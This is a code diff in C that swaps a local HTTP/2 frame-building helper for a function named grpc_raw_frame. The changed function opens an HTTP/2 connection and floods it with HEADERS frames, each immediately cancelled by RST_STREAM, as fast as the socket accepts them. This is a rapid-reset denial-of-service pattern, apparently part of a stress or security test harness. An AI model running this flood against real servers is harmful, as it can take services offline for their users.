@@ -319,24 +319,6 @@ struct flood {
     atomic_bool is_over;
 };
 
-static void
-add_frame(struct buf *out, uint8_t type, uint8_t flags, uint32_t stream,
-          str payload)
-{
-    const uint8_t head[] = {0,
-                            (uint8_t)(payload.len >> 8),
-                            (uint8_t)payload.len,
-                            type,
-                            flags,
-                            (uint8_t)(stream >> 24),
-                            (uint8_t)(stream >> 16),
-                            (uint8_t)(stream >> 8),
-                            (uint8_t)stream};
-
-    buf_add(out, (str){(const char *)head, sizeof(head)});
-    buf_add(out, payload);
-}
-
 /* HEADERS and RST_STREAM, as fast as they are taken. */
 static void *
 begin_and_reset(void *ctx)
@@ -353,10 +335,10 @@ begin_and_reset(void *ctx)
     for (int i = 0; i < PADDING; i++)
         buf_add_char(&head, 'x');
     buf_add(&out, STR("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
-    add_frame(&out, 4, 0, 0, STR(""));
+    grpc_raw_frame(&out, 4, 0, 0, STR(""));
     for (uint32_t stream = 1; !atomic_load(&flood->is_over); stream += 2) {
-        add_frame(&out, 1, 4, stream, buf_str(&head));
-        add_frame(&out, 3, 0, stream, STR("\0\0\0\x08"));
+        grpc_raw_frame(&out, 1, 4, stream, buf_str(&head));
+        grpc_raw_frame(&out, 3, 0, stream, STR("\0\0\0\x08"));
         if (out.len < MIB)
             continue;
         if (send(flood->fd, out.ptr, out.len, MSG_NOSIGNAL) < 0)
